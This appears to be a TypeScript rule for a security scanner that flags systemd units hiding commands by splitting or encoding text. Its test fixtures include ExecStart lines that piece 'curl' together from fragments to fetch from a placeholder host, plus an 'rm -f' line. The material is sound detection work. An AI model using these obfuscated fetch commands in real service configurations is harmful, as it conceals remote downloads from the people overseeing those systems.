import { shipped, timed } from "./example-host.ts";
import type { ActivationRule } from "./rule.ts";
import { accuse, behavioursOfKind, isPackagedPlace } from "./subject.ts";

/** A command's name or text is put together so that a search does not find it. */
export const obfuscatedCommand: ActivationRule = {
  id: "obfuscated-command",
  subject: "activation",
  title: "Hides what it runs by splitting or encoding the text",
  severity: "high",
  confidence: "medium",
  signal: "suspicious",
  family: "hiding",
  depth: "regular",
  techniques: ["T1027", "T1027.010", "T1053.006"],
  controls: ["SI-4", "SI-7"],
  why: "Nobody writes `c''url` or assembles a program's name from pieces by accident: the text is made so that neither people nor searches see what runs.",
  benign: [
    "Keys, pins and certificates in Base64 that are only data (not accused)",
    "Installers that carry an archive in their own text",
  ],
  clears: "write the command in plain text",
  references: ["https://attack.mitre.org/techniques/T1027/010/"],

  *check(activation, inventory) {
    for (const { behaviour } of behavioursOfKind(activation, new Set(["encoded-text"])))
      if (!isPackagedPlace(behaviour.span.path, activation, inventory)) yield accuse(behaviour, inventory);
  },

  examples: () => ({
    fires: [
      timed(`ExecStart=/bin/sh -c "'c''u'rl http://192.0.2.7/x"`),
      timed("ExecStart=/bin/sh -c 'a=cu; b=rl; $$a$$b -s http://192.0.2.7/x'"),
    ],
    quiet: [
      timed("Environment=PIN=dG91Y2ggL3RtcC94\nExecStart=/usr/bin/base64 -d /etc/pin.b64"),
      timed("ExecStart=/bin/sh -c 'rm -f /srv/x'"),
      shipped("vendor", "ExecStart=/bin/sh -c \"'c''u'rl http://192.0.2.7/x\""),
    ],
  }),
};
